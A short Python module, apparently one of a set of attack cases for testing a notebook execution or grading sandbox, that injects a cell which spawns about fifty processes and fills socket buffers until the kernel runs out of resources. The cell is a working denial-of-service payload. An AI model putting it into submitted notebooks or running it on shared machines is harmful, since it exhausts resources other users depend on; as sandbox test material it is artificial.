"""Fills the buffers of thousands of sockets, which many processes have: the kernel keeps them.

It counts with what they hold themselves.
"""

from attacks import CROWD, PROBES, Files, Notebook, with_cell

KIND = "exhaustion"

CELL = (
    PROBES
    + CROWD
    + r"""
import socket
def take(have):
    held = []
    try:
        while True:
            held.append(socket.socketpair())
            for end in held[-1]:
                end.setblocking(False)
                try:
                    while True:
                        end.send(bytes(32768))
                except BlockingIOError:
                    pass
    except OSError:
        pass
    have()
    return held
crowd(50, take)
"""
)


def hand_in(notebook: Notebook) -> Files:
    return with_cell(notebook, CELL)
